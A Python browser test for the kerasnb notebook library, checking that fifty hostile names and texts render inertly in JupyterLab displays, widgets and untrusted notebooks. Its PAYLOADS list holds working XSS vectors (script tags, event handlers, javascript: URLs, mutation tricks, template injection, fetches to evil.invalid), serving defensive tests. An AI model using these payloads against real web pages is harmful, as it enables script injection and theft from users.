"""Names and texts of strangers in a real JupyterLab: whatever they look like, nothing of them runs."""

import json
import re

import pytest

from kerasnb.notebook.display import MIME
from tests.browser.pages import run_all, said

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RUN = "window.ran=1"
ASK = "fetch('http://evil.invalid/')"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</ScRiPt >",
    "<script src=//evil.invalid/x.js></script><b>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={ASK}>",
    "<img src='http://evil.invalid/x.png'>",
    f"<IMG SRC=`javascript:{RUN}`>",
    f"<img/src=x/onerror={RUN}//",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'></svg>",
    f"</text></svg><svg onload={RUN}>",
    f"]]><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    "![x](http://evil.invalid/x.png)",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><input autofocus onfocus={RUN}><button>x</button></form>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}><base href='//evil.invalid/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css'; * { background: url(//evil.invalid/x) }</style>",
    f"</style></title></textarea></td></table></div><script>{RUN}</script>",
    f"<!--<img src='--><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;<i>&#60;img src=x onerror={RUN}&#62;",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}<%={RUN}%>",
    f"\\u003cimg src=x onerror={RUN}\\u003e\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\u202e<img src=x onerror={RUN}>\u202c\ufeff\u2028{RUN}\u2029",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e\u02c2img src=x onerror={RUN}\u02c3",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\unicode{{<img src=x onerror={RUN}>}}$$",
]

# Runs in the kernel, and here for the notebook of a stranger.
MAKE = """
import json
import numpy as np
from kerasnb.layers import Dense, Input, add
from kerasnb.models import Model
from kerasnb.notebook import show

def tower(names, name):
    x = first = Input((2,), name='in ' + name)
    for one in names:
        x = Dense(2, name=one)(x)
    return Model(first, x, name=name)

def metric(name):
    def measure(y_true, y_pred):
        return y_pred - y_true
    measure.__name__ = name
    return measure

model = tower(payloads, payloads[0])
model.compile('sgd', 'mse', metrics=[metric(p) for p in payloads[:8]])
x = y = np.ones((2, 2))
numbers = np.arange(len(payloads))
few = payloads[5:7]
kinds = {
    'summary': lambda: show.summary(model),
    'graph': lambda: show.graph(model),
    'timing': lambda: show.timing(model, x, y, seconds=0),
    'training': lambda: show.training(
        {p: {'loss': [2, 1], p: [1, 2], 'val_' + p: [2, 3]} for p in payloads}),
    'texts': lambda: show.dataset((payloads, numbers), class_names=payloads, page_size=60),
    'dataset': lambda: show.dataset((np.ones((len(payloads), 4, 4)), numbers), page_size=60,
                                    class_names=payloads, predictions=numbers[::-1]),
    'confusion': lambda: show.confusion(numbers, numbers[::-1], payloads),
    'points': lambda: show.points(np.eye(len(payloads)), payloads, numbers % 2),
    'gradients': lambda: show.gradients(model, None, x, y),
}
for number, name in enumerate(payloads):
    kinds[f'inspection {number}'] = lambda name=name: show.inspect(model.get_layer(name))
    if number % 10 == 0:
        kinds[f'activations {number}'] = lambda name=name: show.activations(model, name, x)
        kinds[f'weights {number}'] = lambda name=name: show.weights(model.get_layer(name))
"""
SETUP = (
    f"%load_ext kerasnb\n%kerasnb watch off\n%kerasnb language en\npayloads = {PAYLOADS!r}\n{MAKE}"
)
AT_ONCE = 40  # JupyterLab draws the first 50 outputs of a cell
COUNT = 9 + len(PAYLOADS) + 2 * len(PAYLOADS[::10])
MANY = range(0, COUNT, AT_ONCE)
DRAWN = """for make in list(kinds.values())[{first}:{first} + {at_once}]:
    display(make())
print('drawn')"""
# What a cell shows is trusted; without our JSON it is the page that others see.
AS_HTML = """for make in list(kinds.values())[{first}:{first} + {at_once}]:
    display({{'text/html': make()._repr_mimebundle_()['text/html']}}, raw=True)
print('shown')"""
WIDGETS = """from kerasnb.widgets import *
from ipywidgets import VBox
runs = {p: {p: [1, 2], 'loss': [2, 1]} for p in few}
made = [ModelSummary(model), ModelGraph(model), DatasetBrowser((payloads, numbers)),
        DatasetBrowser((payloads, numbers), class_names=payloads), TrainingCurves(runs)]
made += [LayerInspector(model, x=x, y=y, layer=p, what=what)
         for p in few for what in ('structure', 'weights', 'activations', 'gradients')]
# What goes wrong is told, with the names of those that it has gone wrong with.
wrong = [LayerInspector(model, x=np.ones((2, 5)), layer=p, what='activations') for p in payloads[::10]]
assert all(w.error for w in wrong)
display(VBox(made + wrong))
print('there')"""
PANEL = """for number, p in enumerate(payloads):
    globals()[p] = tower([], p)
model.fit(x, y, verbose=0)
for p in few:
    one = tower(['d'], p)
    one.compile('sgd', 'mse', metrics=[metric(p)])
    one.fit(x, y, verbose=0)
print('trained')"""

# Whatever could run does when it is touched; and nothing is there that could.
TOUCH = """() => {
  for (const one of document.querySelectorAll('.jp-OutputArea *, .jp-kerasnb-Panel *')) {
    for (const name of ['mouseover', 'mouseenter', 'pointerover', 'toggle', 'animationstart']) {
      one.dispatchEvent(new Event(name, { bubbles: name === 'mouseover' }));
    }
  }
}"""
LIVE = """() => [...document.querySelectorAll('.jp-OutputArea *, .jp-kerasnb-Panel *')].filter(one =>
  one.matches('script, iframe, object, embed, base, meta, link, form:not(.jp-kerasnb-Rate), animate')
  || [...one.attributes].some(({ name, value }) => name.startsWith('on')
    || /^(href|src|action|xlink:href)$/.test(name)
      && !/^(#|data:image\\/(png|svg\\+xml);base64,|blob:|\\/)/.test(value))
).map(one => one.outerHTML.slice(0, 300))"""


def nothing_ran(page):
    page.evaluate(TOUCH)
    page.wait_for_timeout(300)  # what is asked for is asked for by then
    assert page.evaluate("() => window.ran") is None
    live = page.evaluate(LIVE)
    assert not live, f"{len(live)}: {live[:5]}"


def watched(page):
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    return page


def test_there_are_fifty():
    assert len(set(PAYLOADS)) == 50


def test_names_in_displays_widgets_and_panel(place):
    drawn, shown = (
        [code.format(first=first, at_once=AT_ONCE) for first in MANY] for code in (DRAWN, AS_HTML)
    )
    cells = [SETUP, *drawn, *shown, WIDGETS, PANEL]
    with place.page("hostile.ipynb", *cells, panel=True) as page:
        watched(page)
        page.set_default_timeout(180_000)  # there is much to draw
        run_all(page)
        said(page, len(cells) - 1, "trained")
        for number, text in enumerate(
            ["drawn"] * len(drawn) + ["shown"] * len(shown) + ["there"], 1
        ):
            said(page, number, text)
        page.wait_for_function(
            "() => document.querySelectorAll('.jp-kerasnb-Card[data-state=finished]').length >= 3"
        )
        found = page.locator(".jp-NotebookPanel:visible .jp-kerasnb-Display")
        assert found.count() >= COUNT
        assert page.locator(".jp-kerasnb-Display pre").count() == 0
        nothing_ran(page)
        # The names are there as they were given.
        texts = "\n".join(found.nth(n).text_content() for n in range(6))
        absent = [p for p in PAYLOADS if _seen(p) not in _seen(texts)]
        assert not absent
        graph = found.nth(1)
        for number in range(0, len(PAYLOADS), 7):
            box = graph.locator("[data-id]").nth(number)
            box.evaluate("e => e.dispatchEvent(new MouseEvent('click', { bubbles: true }))")
        nothing_ran(page)
        canary_sings(page)


SING = """payload => {
  const output = document.querySelector('.jp-OutputArea-output');
  output.innerHTML = payload;
}"""


def canary_sings(page):
    """Put one payload where it runs: this is what the others are kept from."""
    page.evaluate(SING, PAYLOADS[5])
    page.wait_for_function("() => window.ran === 1")
    assert len(page.evaluate(LIVE)) == 1
    page.evaluate("() => { delete window.ran; }")


def _seen(text):
    """Return a text without what pages and fonts may show in other ways."""
    return re.sub(r"[\s\x00-\x1f\u2028\u2029\u202c\u202e\ufeff\ufffd]", "", text)


def strangers_notebook():
    """Return a notebook as a stranger would write it: our displays, of hostile names, as outputs."""
    space = {"payloads": PAYLOADS}
    exec(MAKE, space)
    shown = [make()._repr_mimebundle_() for make in list(space["kinds"].values())[:AT_ONCE]]
    cells = []
    for data in (
        [{MIME: both[MIME], "text/plain": ""} for both in shown],
        [{"text/html": both["text/html"]} for both in shown],
    ):
        outputs = [{"output_type": "display_data", "data": d, "metadata": {}} for d in data]
        cell = {"cell_type": "code", "id": f"cell{len(cells)}", "execution_count": 1}
        cells.append(cell | {"metadata": {}, "outputs": outputs, "source": "# not run"})
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return json.dumps({"cells": cells, "metadata": kernel, "nbformat": 4, "nbformat_minor": 5})


def test_a_strangers_notebook(place):
    with place.page("own.ipynb", "", panel=False) as page:
        watched(page)
        (place.folder / "strange.ipynb").write_text(strangers_notebook(), "utf-8")
        page.evaluate(
            "path => void jupyterapp.commands.execute('docmanager:open', { path })", "strange.ipynb"
        )
        page.wait_for_function(
            "() => document.querySelectorAll('.jp-NotebookPanel:not(.lm-mod-hidden)"
            " .jp-OutputArea-output').length >= 80"
        )
        trusted = "[...jupyterapp.shell.currentWidget.content.model.cells].some(c => c.trusted)"
        assert page.evaluate(f"() => {trusted}") is False
        page.evaluate(TOUCH)
        page.wait_for_timeout(300)
        assert page.evaluate("() => window.ran") is None
        assert page.locator(".jp-kerasnb-Display").count() == AT_ONCE
